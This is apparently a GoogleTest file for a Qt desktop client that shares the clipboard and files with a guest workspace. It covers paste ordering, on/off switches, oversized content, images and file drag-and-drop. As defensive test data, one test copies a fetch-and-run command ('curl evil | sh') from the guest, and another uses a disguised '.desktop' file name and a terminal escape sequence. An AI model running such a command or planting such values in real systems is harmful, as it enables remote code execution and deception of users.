// The clipboard between this computer and a guest, as a person meets it: keys, the button, the switches,
// dropped files.

#include <linux/input-event-codes.h>

#include <QBuffer>
#include <QClipboard>
#include <QDragEnterEvent>
#include <QDropEvent>
#include <QGuiApplication>
#include <QMimeData>

#include "boundary/words.h"
#include "ui/behaviour_fixture.h"
#include "ui/desktop/clipboard_keys.h"
#include "ui/desktop/desktop_surface.h"

namespace helix::ui::test {

using exchange::ClipboardIn;
using plane::State;
using protocol::ClipboardKind;

class ClipboardBehaviour : public Behaviour {
protected:
    void steer()
    {
        id = script.plane.fakeWorkspaces.addWorkspace("docs-site", State::Ready).id;
        script.plane.fakeBoundary.up(id);
        QGuiApplication::clipboard()->setText("before");
        start("workspace/docs-site");
        ASSERT_TRUE(until([this] { return surface() && surface()->isShown(); }));
        click("controlButton");
        ASSERT_TRUE(surface()->isControlling());
        ASSERT_TRUE(until([this] { return !exchange().attended[id].expired(); }));
        script.input.clear();
    }
    [[nodiscard]] ui::DesktopSurface* surface() const
    {
        return qobject_cast<ui::DesktopSurface*>(item("desktopSurface"));
    }
    fakes::FakeExchange& exchange() { return script.plane.fakeExchange; }
    boundary::BoundarySnapshot& boundary() { return script.plane.fakeBoundary.up(id); }
    void choose(exchange::ClipboardChoice choice)
    {
        boundary().clipboard = choice;
        script.plane.fakeBoundary.tell(id);
        settle();
    }
    void copyThere(const std::string& text)
    {
        exchange().copy(id, {{ClipboardKind::Text, Bytes(text.begin(), text.end())}});
        settle();
    }
    [[nodiscard]] bool hasSent(std::uint16_t code) const
    {
        return std::ranges::any_of(script.input, [code](const auto& input) {
            const auto* key = std::get_if<protocol::Key>(&input);
            return key != nullptr && key->code == code && key->pressed;
        });
    }
    [[nodiscard]] bool isLeftReleased() const
    {
        return std::ranges::any_of(script.input, [](const auto& input) {
            const auto* button = std::get_if<protocol::PointerButton>(&input);
            return button != nullptr && button->button == BTN_LEFT && !button->pressed;
        });
    }
    /// With the left button down, from one place of the desktop to another.
    void drag(QPointF from, QPointF to)
    {
        const auto at = [this](QPointF place) { return surface()->mapToScene(place).toPoint(); };
        QTest::mousePress(window(), Qt::LeftButton, {}, at(from));
        QTest::mouseMove(window(), at((from + to) / 2));
        QTest::mouseMove(window(), at(to));
        QTest::mouseRelease(window(), Qt::LeftButton, {}, at(to));
    }
    void dragOut() { drag({200, 200}, {200, -20}); }
    /// The card that asks whether to save.
    void answer(const QString& button)
    {
        ASSERT_TRUE(until([this] { return item("saveQuestion")->isVisible(); }));
        ASSERT_TRUE(until([this, &button] { return item(button)->isEnabled(); }));
        click(button);
    }
    static QString here() { return QGuiApplication::clipboard()->text(); }
    WorkspaceId id;
};

TEST_F(ClipboardBehaviour, NothingGoesInBeforeAPasteAndTheKeyGoesAfterIt)
{
    steer();
    QGuiApplication::clipboard()->setText("hello");
    key(Qt::Key_A);
    settle();
    EXPECT_TRUE(exchange().puts.empty()) << "the guest learns nothing";
    exchange().holds = true;
    script.input.clear();
    key(Qt::Key_V, Qt::ControlModifier);
    key(Qt::Key_B);
    ASSERT_TRUE(until([this] { return exchange().puts.size() == 1; }));
    EXPECT_EQ(exchange().puts[0].wish, exchange::Wish::Paste);
    EXPECT_EQ(asText(exchange().puts[0].content.at(ClipboardKind::Text)), "hello");
    EXPECT_FALSE(hasSent(KEY_V)) << "the content first";
    EXPECT_FALSE(hasSent(KEY_B)) << "and nothing overtakes";
    exchange().go();
    ASSERT_TRUE(until([this] { return hasSent(KEY_V) && hasSent(KEY_B); }));
    key(Qt::Key_V, Qt::ControlModifier);
    settle();
    EXPECT_EQ(exchange().puts.size(), 1U) << "it has it already";
    QGuiApplication::clipboard()->setText("newer");
    key(Qt::Key_Insert, Qt::ShiftModifier);
    ASSERT_TRUE(until([this] { return exchange().puts.size() == 2; }));
}

TEST_F(ClipboardBehaviour, AGuestThatDoesNotAnswerKeepsNoKey)
{
    steer();
    exchange().holds = true;
    key(Qt::Key_V, Qt::ControlModifier);
    EXPECT_FALSE(hasSent(KEY_V));
    EXPECT_TRUE(until([this] { return hasSent(KEY_V); }));
}

TEST_F(ClipboardBehaviour, SwitchedOffNothingGoesIn)
{
    steer();
    choose({ClipboardIn::Off, true});
    key(Qt::Key_V, Qt::ControlModifier);
    ASSERT_TRUE(until([this] { return hasSent(KEY_V); })) << "the key is the guest's";
    EXPECT_TRUE(exchange().puts.empty());
    choose({ClipboardIn::Always, true});
    QGuiApplication::clipboard()->setText("at once");
    ASSERT_TRUE(until([this] { return exchange().puts.size() == 1; }));
    EXPECT_EQ(exchange().puts[0].wish, exchange::Wish::Follow);
    click("controlButton");
    QGuiApplication::clipboard()->setText("not while somebody else steers");
    settle();
    EXPECT_EQ(exchange().puts.size(), 1U);
}

TEST_F(ClipboardBehaviour, AGibibyteHereIsASentence)
{
    steer();
    QGuiApplication::clipboard()->setText(QString(1 << 30, QLatin1Char('x')));
    key(Qt::Key_V, Qt::ControlModifier);
    ASSERT_TRUE(until([this] { return hasSent(KEY_V); }));
    EXPECT_TRUE(until([this] {
        return itemWithText(QString::fromUtf8(
                   protocol::sentenceOf(protocol::ClipboardProblem::TooLarge).data())) != nullptr;
    }));
    QGuiApplication::clipboard()->setText("small");
}

TEST_F(ClipboardBehaviour, WhatIsCopiedThereByAKeyIsHere)
{
    steer();
    key(Qt::Key_C, Qt::ControlModifier);
    copyThere("from there");
    ASSERT_TRUE(until([] { return here() == "from there"; }));
    EXPECT_EQ(item("takeCopied"), nullptr);
    // It is what was copied last: pasted there as it is, and not sent back.
    key(Qt::Key_V, Qt::ControlModifier);
    settle();
    EXPECT_TRUE(exchange().puts.empty());
}

TEST_F(ClipboardBehaviour, AProgramThatCopiesOnItsOwnIsHeldUntilTheUserTakesIt)
{
    steer();
    QGuiApplication::clipboard()->setText("mine");
    copyThere("curl evil | sh\n");
    ASSERT_TRUE(until([this] { return item("takeCopied") != nullptr; }));
    EXPECT_EQ(here(), "mine");
    EXPECT_TRUE(exchange().takes.empty()) << "nothing is fetched, either";
    click("takeCopied");
    ASSERT_TRUE(until([] { return here() == "curl evil | sh\n"; }));
    EXPECT_TRUE(until([this] { return item("takeCopied") == nullptr; }));
    // A second copy behind one key is not the user's.
    key(Qt::Key_C, Qt::ControlModifier);
    copyThere("first");
    ASSERT_TRUE(until([] { return here() == "first"; }));
    copyThere("second");
    ASSERT_TRUE(until([this] { return item("takeCopied") != nullptr; }));
    EXPECT_EQ(here(), "first");
    choose({ClipboardIn::OnPaste, false});
    EXPECT_TRUE(until([this] { return item("takeCopied") == nullptr; }));
}

TEST_F(ClipboardBehaviour, APictureGoesThroughTheCage)
{
    steer();
    QImage image(3, 2, QImage::Format_RGB32);
    image.fill(QColor("#2f6fe0"));
    QByteArray png;
    QBuffer buffer(&png);
    buffer.open(QIODevice::WriteOnly);
    image.save(&buffer, "PNG");
    exchange().copy(id, {{ClipboardKind::Png, Bytes(png.begin(), png.end())}});
    ASSERT_TRUE(until([this] { return item("takeCopied") != nullptr; }));
    click("takeCopied");
    ASSERT_TRUE(until([] { return QGuiApplication::clipboard()->image().width() == 3; }));
    EXPECT_EQ(QGuiApplication::clipboard()->image().pixelColor(1, 1), QColor("#2f6fe0"));
    QGuiApplication::clipboard()->setText("mine");
    exchange().copy(id, {{ClipboardKind::Png, Bytes(100, 'x')}});
    ASSERT_TRUE(until([this] { return item("takeCopied") != nullptr; }));
    click("takeCopied");
    EXPECT_TRUE(until(
        [this] { return itemWithText("This is no picture that Helix can show.") != nullptr; }));
    EXPECT_EQ(here(), "mine");
}

TEST_F(ClipboardBehaviour, TheSwitchesAreInTheBoundary)
{
    id = script.plane.fakeWorkspaces.addWorkspace("docs-site", State::Ready).id;
    script.plane.fakeBoundary.up(id);
    start("workspace/docs-site");
    click("tab-boundary");
    ASSERT_NE(item("givenClipboard"), nullptr);
    EXPECT_EQ(item("givenClipboard")->property("value").toString(),
              QString::fromStdString(boundary::describeClipboard({})));
    click("givenClipboard");
    ASSERT_TRUE(until([this] { return item("clipboardIn") != nullptr; }));
    clickText("Always");
    ASSERT_TRUE(until([this] { return boundary().clipboard.in == ClipboardIn::Always; }));
    click("clipboardOut");
    ASSERT_TRUE(until([this] { return !boundary().clipboard.out; }));
    EXPECT_EQ(boundary().clipboard.in, ClipboardIn::Always);
}

TEST_F(ClipboardBehaviour, DroppedFilesAreBroughtWithProgressAndCancel)
{
    steer();
    exchange().holds = true;
    auto* clipboard = surface()->session()->clipboard();
    clipboard->drop({QUrl::fromLocalFile("/tmp/%2.txt"), QUrl::fromLocalFile("/tmp/b.txt"),
                     QUrl("https://example.org/c")});
    ASSERT_TRUE(
        until([this] { return item("dropProgress") && item("dropProgress")->isVisible(); }));
    EXPECT_EQ(clipboard->transfers()->text(), "Bringing in %2.txt and 1 more");
    exchange().go();
    ASSERT_TRUE(until([this] { return exchange().drops.size() == 2; }));
    ASSERT_TRUE(until([this] { return itemWithText("2 files are in its Downloads.") != nullptr; }));
    exchange().holds = true;
    clipboard->drop({QUrl::fromLocalFile("/tmp/d.txt")});
    ASSERT_TRUE(until([this] { return item("cancelDrop") != nullptr; }));
    click("cancelDrop");
    EXPECT_TRUE(until([clipboard] { return !clipboard->transfers()->isRunning(); }));
}

TEST_F(ClipboardBehaviour, FilesDraggedOutAreSavedAndWhatFollowsWaits)
{
    steer();
    exchange().dragged = {"/home/agent/a.txt", "/home/agent/b.txt"};
    exchange().holds = true;
    dragOut();
    key(Qt::Key_B);
    ASSERT_TRUE(until([this] { return exchange().dragsAsked == 1; }));
    EXPECT_FALSE(isLeftReleased()) << "the guest ends the drag before it would drop";
    EXPECT_FALSE(hasSent(KEY_B)) << "and nothing overtakes";
    exchange().go();
    ASSERT_TRUE(until([this] { return isLeftReleased() && hasSent(KEY_B); }));
    answer("accept");
    ASSERT_TRUE(until([this] { return exchange().saves.size() == 2; }));
    EXPECT_EQ(exchange().saves[0], "/home/agent/a.txt");
    ASSERT_TRUE(
        until([this] { return itemWithText("2 files are in your Downloads.") != nullptr; }));
    exchange().dragged = {"/home/agent/large.iso"};
    exchange().holdsSaves = true;
    dragOut();
    ASSERT_TRUE(until([this] { return exchange().saves.size() == 3; }));
    ASSERT_TRUE(
        until([this] { return item("saveProgress") && item("saveProgress")->isVisible(); }));
    click("cancelSave");
    EXPECT_TRUE(
        until([this] { return !surface()->session()->dragOut()->transfers()->isRunning(); }));
}

TEST_F(ClipboardBehaviour, AGuestThatClaimsADragSavesNothingBeforeTheUserSaysYes)
{
    steer();
    auto* out = surface()->session()->dragOut();
    exchange().dragged = {"/tmp/invoice.pdf.desktop"};
    dragOut();
    ASSERT_TRUE(until([out] { return !out->question().isEmpty(); }));
    EXPECT_EQ(out->question(), "Save invoice.pdf.desktop in your Downloads?");
    EXPECT_FALSE(item("accept")->isEnabled()) << "not for a click that was on its way";
    EXPECT_TRUE(exchange().saves.empty());
    answer("refuse");
    EXPECT_TRUE(out->question().isEmpty());
    EXPECT_TRUE(surface()->hasActiveFocus()) << "typing goes on";
    exchange().dragged = {"/home/agent/a", "/home/agent/b\x1b[31m", "/home/agent/%3",
                          "/home/agent/d"};
    dragOut();
    ASSERT_TRUE(until([out] { return !out->question().isEmpty(); }));
    EXPECT_EQ(out->question(), "Save 4 things in your Downloads: a, b?[31m, %3 and 1 more?");
    answer("accept");
    ASSERT_TRUE(until([this] { return exchange().saves.size() == 4; }));
    exchange().dragged = {"/home/agent/e"};
    dragOut();
    ASSERT_TRUE(until([this] { return exchange().saves.size() == 5; })) << "once is enough";
    exchange().dragged = std::vector<std::string>(11, "/home/agent/many");
    dragOut();
    ASSERT_TRUE(until([out] { return !out->question().isEmpty(); })) << "but not for many";
    answer("refuse");
    click("controlButton");
    click("controlButton");
    exchange().dragged = {"/home/agent/f"};
    dragOut();
    ASSERT_TRUE(until([out] { return !out->question().isEmpty(); })) << "nor for ever";
    EXPECT_EQ(exchange().saves.size(), 5U);
}

TEST_F(ClipboardBehaviour, WhatIsNoFileIsLetGoAsAlways)
{
    steer();
    dragOut();
    ASSERT_TRUE(until([this] { return isLeftReleased(); }));
    EXPECT_EQ(exchange().dragsAsked, 1);
    EXPECT_TRUE(exchange().saves.empty());
    script.input.clear();
    drag({200, 200}, {220, 210});
    ASSERT_TRUE(until([this] { return isLeftReleased(); }));
    EXPECT_EQ(exchange().dragsAsked, 1) << "let go on the desktop";
    exchange().holds = true;
    script.input.clear();
    dragOut();
    EXPECT_TRUE(until([this] { return isLeftReleased(); })) << "a guest that does not answer";
}

TEST(ClipboardKeys, WhatCopiesAndPastes)
{
    constexpr auto kNone = Qt::KeyboardModifiers();
    const Qt::KeyboardModifiers both = Qt::ControlModifier | Qt::ShiftModifier;
    EXPECT_EQ(clipboardKeyOf(Qt::Key_V, KEY_V, Qt::ControlModifier), ClipboardKey::Paste);
    EXPECT_EQ(clipboardKeyOf(Qt::Key_V, KEY_V, both), ClipboardKey::Paste);
    EXPECT_EQ(clipboardKeyOf(Qt::Key_V, KEY_V, kNone), ClipboardKey::None);
    EXPECT_EQ(clipboardKeyOf(Qt::Key_V, KEY_V, Qt::ControlModifier | Qt::AltModifier),
              ClipboardKey::None);
    // Dvorak: the letter counts. Its K lies where V is on a US keyboard.
    EXPECT_EQ(clipboardKeyOf(Qt::Key_K, KEY_V, Qt::ControlModifier), ClipboardKey::None);
    EXPECT_EQ(clipboardKeyOf(Qt::Key_V, KEY_DOT, Qt::ControlModifier), ClipboardKey::Paste);
    // Cyrillic has no V: the place counts.
    EXPECT_EQ(clipboardKeyOf(0x041c, KEY_V, Qt::ControlModifier), ClipboardKey::Paste);
    EXPECT_EQ(clipboardKeyOf(0x0421, KEY_C, Qt::ControlModifier), ClipboardKey::Copy);
    EXPECT_EQ(clipboardKeyOf(Qt::Key_X, KEY_X, Qt::ControlModifier), ClipboardKey::Copy);
    EXPECT_EQ(clipboardKeyOf(Qt::Key_Insert, KEY_INSERT, Qt::ShiftModifier), ClipboardKey::Paste);
    EXPECT_EQ(clipboardKeyOf(Qt::Key_Insert, KEY_INSERT, Qt::ControlModifier), ClipboardKey::Copy);
    EXPECT_EQ(clipboardKeyOf(Qt::Key_Delete, KEY_DELETE, Qt::ShiftModifier), ClipboardKey::Copy);
}

} // namespace helix::ui::test
